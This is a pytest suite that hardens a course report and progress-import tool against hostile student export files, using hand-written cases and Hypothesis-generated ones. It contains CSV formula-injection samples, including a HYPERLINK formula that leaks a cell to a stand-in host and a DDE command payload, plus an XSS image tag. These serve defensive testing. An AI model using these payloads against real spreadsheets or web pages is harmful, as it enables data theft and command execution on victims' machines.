"""Students' exports are hostile input: the instructor's tools must survive anything in them.

Every file a student sends is read by the same rules (``course.exports.read_export``) in
``course report``, ``course progress --import`` and ``ProgressStore.import_``. For any
file, the report either includes it correctly or names it as skipped, with a reason;
never a traceback, and no cell of any CSV it writes starts a formula. Hand-written cases
first (the ones reported in issue 18), then property tests that generate exports.
"""

from __future__ import annotations

import argparse
import csv
import json
from pathlib import Path

import pytest
from helpers.report_fixtures import report_bank  # noqa: F401
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from course import cli as course_cli
from course import progress_cli, report
from course.exercises import bank
from course.exports import MAX_BYTES, MAX_DEPTH, ExportError, read_export
from course.progress import ProgressFileError, ProgressStore
from course.spreadsheet import TRIGGERS, safe_cell

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "progress"
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
HOSTILE_NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2",
                 "<img src=x onerror=alert(1)>", "Zoë O'Brien", "- dash first"]


@pytest.fixture(scope="module")
def small_bank():
    """The report fixture bank, loaded from its own folder (no environment change)."""
    return bank(FIXTURES / "bank")


def formula_cells(folder: Path) -> list[tuple[str, str]]:
    """Every CSV cell under *folder* a spreadsheet would run as a formula."""
    found = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell.startswith(TRIGGERS):
                        try:
                            float(cell)
                        except ValueError:
                            found.append((path.name, cell))
    return found


def export_text(student, attempts, **top) -> str:
    return json.dumps({"format": "open-weights-course-progress", "version": 1,
                       "student": student, "exported": "2025-02-09T10:00:00+00:00",
                       "attempts": attempts, **top})


def rec(n: int, answer="b", correct=True, **changes) -> dict:
    return {"id": f"id-{n}", "time": "2025-02-01T10:00:00+00:00", "kind": "attempt",
            "answer": answer, "correct": correct, **changes}


# --- the spreadsheet helper ------------------------------------------------------------------

@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-3.5", "-3.5"), ("-3.5e2", "-3.5e2"), ("-", "'-"),
    ("-x", "'-x"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("a=1", "a=1"),
    ("", ""), (-2, -2), (0.5, 0.5), (None, None), ("1+1", "1+1"), ("+1+1", "'+1+1"),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_every_csv_writer_in_the_package_uses_the_helper():
    """No module but course/spreadsheet.py writes CSV itself."""
    package = Path(__file__).resolve().parent.parent / "course"
    writers = ("to_csv(", "csv.writer", "csv.DictWriter", "import csv")
    offenders = [f"{path.relative_to(package)}: {marker}" for path in package.rglob("*.py")
                 if path.name != "spreadsheet.py"
                 for marker in writers if marker in path.read_text(encoding="utf-8")]
    offenders = [o for o in offenders if not o.startswith("tables.py: import csv")]  # reads
    assert offenders == []


# --- the failures of issue 18 ----------------------------------------------------------------

def test_a_formula_as_a_name_is_text_in_every_csv(report_bank, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # so that a file named "=evil.json" is given as such
    files = []
    for n, name in enumerate(HOSTILE_NAMES):
        path = Path(f"s{n}.json")
        path.write_text(export_text(name, {"00.articles": [rec(n, answer="=cmd", correct=True)],
                                           "=99.formula": [rec(100 + n)]}))
        files.append(path)
    Path("=evil.json").write_text("not json")
    result = report.build_report([*files, "=evil.json"], tmp_path / "out")
    assert formula_cells(tmp_path / "out") == []
    students = {row["student"] for row in csv.DictReader(
        (tmp_path / "out" / "students.csv").open(encoding="utf-8", newline=""))}
    assert f"'{HYPERLINK}" in students and "'-2+3" in students and "Zoë O'Brien" in students
    completion = (tmp_path / "out" / "completion.csv").read_text(encoding="utf-8")
    assert f'"\'{HYPERLINK.replace(chr(34), chr(34) * 2)}"' in completion
    assert len(result.students) == len(HOSTILE_NAMES)
    skipped = (tmp_path / "out" / "skipped.csv").read_text(encoding="utf-8")
    assert "'=evil.json" in skipped and "'=99.formula" not in skipped  # listed, as text
    page = (tmp_path / "out" / "index.html").read_text(encoding="utf-8")
    assert "<img src=x onerror" not in page and "&lt;img src=x onerror" in page


def test_a_file_nested_100000_deep_is_named_and_the_report_still_written(report_bank,
                                                                        tmp_path, capsys):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    status = course_cli.main(["report", str(deep), str(FIXTURES / "ana.json"), "--out",
                              str(tmp_path / "out")])
    captured = capsys.readouterr()
    assert status == 1 and "Traceback" not in captured.err
    assert f"SKIPPED: {deep}: is nested 100000 levels deep; a progress export is at most " \
           f"{MAX_DEPTH}" in captured.err
    assert "Ana Silva" in (tmp_path / "out" / "students.csv").read_text(encoding="utf-8")


def test_nesting_inside_an_answer_is_allowed_up_to_the_limit(tmp_path):
    def nested(depth):  # an answer of lists inside lists
        return json.loads("[" * depth + "]" * depth)

    ok = tmp_path / "ok.json"
    ok.write_text(export_text("Ada", {"00.articles": [rec(1, answer=nested(MAX_DEPTH - 4))]}))
    assert read_export(ok).records == 1
    deep = tmp_path / "deep.json"
    deep.write_text(export_text("Ada", {"00.articles": [rec(1, answer=nested(MAX_DEPTH))]}))
    with pytest.raises(ExportError, match=f"nested {MAX_DEPTH + 4} levels deep"):
        read_export(deep)
    # brackets inside text do not count
    text = tmp_path / "text.json"
    text.write_text(export_text("Ada", {"00.articles": [rec(1, answer="[" * 10_000)]}))
    assert read_export(text).records == 1


def test_a_huge_file_is_refused_before_it_is_read(tmp_path):
    big = tmp_path / "big.json"
    with big.open("wb") as handle:
        handle.truncate(MAX_BYTES + 1)  # sparse: no time or disk spent writing it
    with pytest.raises(ExportError, match=r"big.json: is 20.0 MB; a progress export is at most "
                                          r"20 MB"):
        read_export(big)


@pytest.mark.parametrize("content, reason", [
    (export_text("Ada", {"00.articles": [rec(1, correct="yes")]}),
     "record 1 of '00.articles' left out: correct must be boolean or null, not 'yes'"),
    (export_text("Ada", {"00.articles": [rec(1, correct=1)]}),
     "record 1 of '00.articles' left out: correct must be boolean or null, not 1"),
    (export_text("Ada", {"00.articles": [rec(1, time="the day before yesterday")]}),
     "its time 'the day before yesterday' does not parse"),
    (export_text("Ada", {"00.articles": [rec(1, kind="reveal", correct=True)]}),
     "record 1 of '00.articles' left out: correct must be null, not True"),
    (export_text("Ada", {"00.articles": [rec(n) for n in range(1001)]}),
     "the records of '00.articles' left out: it must contain less than or equal to 1000"),
    (export_text("Ada", {"00.articles": [rec(1, answer="\ud800")]}),
     "its answer holds text that is not valid Unicode"),
    (export_text("Ada", {"00.articles": [rec(1, kind="peek")]}),
     "kind must be one of ['attempt', 'reveal'], not 'peek'"),
    (export_text("Ada", {"00.articles": [rec(1), rec(1)]}),
     "1 record(s) left out: their ids repeat earlier records'"),
    (export_text("Ada", {"00.ar\nticles": [rec(1)]}), "is not printable text"),
])
def test_records_with_impossible_values_are_left_out_by_name(tmp_path, content, reason):
    path = tmp_path / "odd.json"
    path.write_text(content)
    export = read_export(path, known={"00.articles"})
    assert any(reason in line for line in export.skipped), export.skipped
    assert export.student == "Ada"


@pytest.mark.parametrize("content, reason", [
    (b"\xff\xfe\x00garbage", "not valid JSON (it is not UTF-8 text)"),
    (b"[]", "is not a progress export of this course (it must be object, not [])"),
    (export_text("Ada", []).encode(), "(attempts must be object, not [])"),
    (export_text(["Ada"], {}).encode(), "(student must be string, not ['Ada'])"),
    (export_text("Ada\x07", {}).encode(), "the student's name is empty or holds control"),
    (export_text("   ", {}).encode(), "the student's name is empty"),
    (export_text("Ada", {"00.a": [rec(1, answer=float("nan"))]}).encode(),
     "NaN is not a number JSON allows"),
    (export_text("Ada", {}).replace('"Ada"', '"Ada", "n": 1e999').encode(),
     "the number 1e999 is too large"),
    (export_text("Ada", {}).replace('"Ada"', '"Ada", "n": ' + "9" * 5000).encode(),
     "Exceeds the limit"),
    (export_text("Ada", {})[:-5].encode(), "not valid JSON"),
])
def test_files_that_cannot_be_exports_are_refused_with_a_reason(tmp_path, content, reason):
    path = tmp_path / "odd.json"
    path.write_bytes(content)
    with pytest.raises(ExportError) as caught:
        read_export(path)
    assert str(caught.value).startswith(f"{path}: ") and reason in str(caught.value)


def test_a_byte_order_mark_is_fine(tmp_path):
    path = tmp_path / "bom.json"
    path.write_bytes(b"\xef\xbb\xbf" + export_text("Ada", {"00.a": [rec(1)]}).encode())
    assert read_export(path).records == 1


# --- generated exports -----------------------------------------------------------------------

LEAVES = (st.none() | st.booleans() | st.integers() | st.text(max_size=12)
          | st.floats(allow_nan=False, allow_infinity=False))
JUNK = st.recursive(LEAVES, lambda inner: st.lists(inner, max_size=3)
                    | st.dictionaries(st.text(max_size=4), inner, max_size=3), max_leaves=8)
ANSWERS = st.sampled_from(["a", "b", "c", "z", 7, None, ["b"]])
RECORD = st.fixed_dictionaries({
    "kind": st.sampled_from(["attempt", "attempt", "reveal"]),
    "answer": ANSWERS,
    "correct": st.sampled_from([True, False, None]),
    "time": st.sampled_from(["2025-02-01T10:00:00+00:00", "2025-02-01T11:00:00Z",
                             "2025-02-01T12:00:00.123456+05:30", "2025-02-01"]),
})
VALID = st.fixed_dictionaries({
    "student": st.sampled_from(HOSTILE_NAMES) | st.text(min_size=1, max_size=20),
    "records": st.lists(RECORD, max_size=6),
    "others": st.dictionaries(st.sampled_from(["03.share", "99.gone", "=1+1", "@x", "-3"]),
                              st.lists(RECORD, max_size=2), max_size=2),
})
MUTATION = st.one_of(
    st.none(),  # a valid export, left as it is
    st.tuples(st.just("junk"), st.sampled_from(["student", "attempts", "format", "version",
                                                 "exported", "record", "correct", "id", "time",
                                                 "kind", "list"]), JUNK),
    st.tuples(st.just("deep"), st.sampled_from([MAX_DEPTH + 1, 1000, 100_000])),
    st.tuples(st.just("cut"), st.floats(0, 1)),
    st.tuples(st.just("bytes"), st.binary(max_size=64)),
    st.tuples(st.just("number"), st.sampled_from(["1e999", "-1e999", "NaN", "Infinity",
                                                  "9" * 5000, "1" * 400])),
)


def build(n: int, valid: dict, mutation) -> tuple[bytes, str, bool]:
    """The file's bytes, its unique student name, and whether it was left valid."""
    name = f"{valid['student']} #{n}"
    records = [{**r, "id": f"r{n}-{i}", "correct": None if r["kind"] == "reveal" else
                r["correct"], "answer": None if r["kind"] == "reveal" else r["answer"]}
               for i, r in enumerate(valid["records"])]
    attempts = {"00.articles": records, **{key: [{**r, "id": f"o{n}-{key}-{i}"}
                                                 for i, r in enumerate(recs)]
                                           for key, recs in valid["others"].items()}}
    data = {"format": "open-weights-course-progress", "version": 1, "student": name,
            "exported": "2025-02-09T10:00:00+00:00", "attempts": attempts}
    if mutation is None:
        return json.dumps(data).encode(), name, True
    what = mutation[0]
    if what == "junk":
        where, value = mutation[1], mutation[2]
        if where == "record":
            attempts["00.articles"] = [value, *records]
        elif where == "list":
            attempts["00.articles"] = value
        elif where in ("correct", "id", "time", "kind"):
            (records[0] if records else data)[where] = value
        else:
            data[where] = value
        return json.dumps(data).encode(), name, False
    if what == "deep":
        depth = mutation[1]
        return ("[" * depth + json.dumps(data) + "]" * depth).encode(), name, False
    if what == "cut":
        text = json.dumps(data)
        return text[:int(len(text) * mutation[1])].encode(), name, False
    if what == "bytes":
        return mutation[1], name, False
    data["attempts"]["00.articles"] = [*records, {"id": f"x{n}", "time": "2025-02-01",
                                                  "kind": "attempt", "answer": "HUGE",
                                                  "correct": None}]
    return json.dumps(data).replace('"HUGE"', mutation[1]).encode(), name, False


EXPORTS = st.lists(st.tuples(VALID, MUTATION), min_size=1, max_size=4)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.data_too_large])
@given(exports=EXPORTS)
def test_any_export_is_counted_correctly_or_named_as_skipped(small_bank, tmp_path_factory,
                                                              exports):
    folder = tmp_path_factory.mktemp("class")
    files, expected = [], {}
    for n, (valid, mutation) in enumerate(exports):
        content, name, is_valid = build(n, valid, mutation)
        path = folder / f"export-{n}.json"
        path.write_bytes(content)
        files.append(path)
        name = " ".join(name.split())  # as the report shows it
        if is_valid and name.isprintable():
            # the oracle: 00.articles is done when its key, "b", was given in an attempt
            expected[name] = any(r["kind"] == "attempt" and r["answer"] == "b"
                                 for r in valid["records"])
    result = report.build_report(files, folder / "out", exercises=small_bank)
    named = {file for file, _ in result.skipped}
    shown = {" ".join(s.casefold().split()) for s in result.students}
    for path in files:  # read alone, each file is either refused, counted, or counted in part
        try:
            alone = read_export(path, known=small_bank)
        except ExportError:
            assert str(path) in named
            continue
        key = " ".join(alone.student.casefold().split())
        if not key:
            assert str(path) in named
            continue
        assert (f"anonymous ({path.name})" if key == "anonymous" else key) in shown
        assert (str(path) in named) == bool(alone.skipped or alone.unknown)
    for name, done in expected.items():  # valid files are counted exactly
        row = result.completion[(result.completion["student"] == name)
                                & (result.completion["notebook"] == "00")]
        assert row["completed"].iloc[0] == int(done), name
    assert formula_cells(folder / "out") == []
    page = (folder / "out" / "index.html").read_text(encoding="utf-8")
    assert "<img src=x onerror" not in page


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.data_too_large])
@given(export=st.tuples(VALID, MUTATION))
def test_importing_any_export_never_crashes_and_a_bad_file_changes_nothing(
        small_bank, tmp_path_factory, export):
    folder = tmp_path_factory.mktemp("import")
    content, _, _ = build(0, *export)
    src = folder / "incoming.json"
    src.write_bytes(content)
    store = ProgressStore(folder / "progress.sqlite3")
    store.record("00.reflect", "mine", None)
    before = store.path.read_bytes()
    try:
        done = store.import_(src, known=small_bank)
    except ProgressFileError as error:
        assert str(error).startswith(f"{src}: ") and store.path.read_bytes() == before
    else:
        assert done.added == sum(len(r) for r in read_export(src, known=small_bank)
                                 .attempts.values())
    args = argparse.ArgumentParser()
    progress_cli.add_arguments(args)
    other = folder / "other.sqlite3"
    assert progress_cli.cli(args.parse_args(["--file", str(other), "--import", str(src)])) \
        in (0, 1)


def test_course_progress_import_of_a_bad_file_says_so_and_keeps_progress(tmp_path, capsys):
    mine = tmp_path / "progress.sqlite3"
    ProgressStore(mine).record("00.articles", "b", True)
    before = mine.read_bytes()
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    args = argparse.ArgumentParser()
    progress_cli.add_arguments(args)
    assert progress_cli.cli(args.parse_args(["--file", str(mine), "--import", str(deep)])) == 1
    err = capsys.readouterr().err
    assert "nested 100000 levels deep" in err and "your progress is unchanged" in err
    assert mine.read_bytes() == before


def test_the_schema_file_is_a_json_schema_that_jsonschema_reads_the_same_way(tmp_path):
    """Editors and other tools can check an export with the schema file and jsonschema."""
    import jsonschema

    from course.exports import SCHEMA_PATH

    schema = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
    jsonschema.validators.validator_for(schema).check_schema(schema)
    validator = jsonschema.validators.validator_for(schema)(schema)
    good = json.loads((FIXTURES / "ana.json").read_text(encoding="utf-8"))
    assert list(validator.iter_errors(good)) == [] and read_export(FIXTURES / "ana.json")
    for change in ({"version": True}, {"version": 2}, {"attempts": []}, {"student": 3}):
        bad = tmp_path / "bad.json"
        bad.write_text(json.dumps({**good, **change}))
        assert list(validator.iter_errors({**good, **change}))
        with pytest.raises(ExportError):
            read_export(bad)
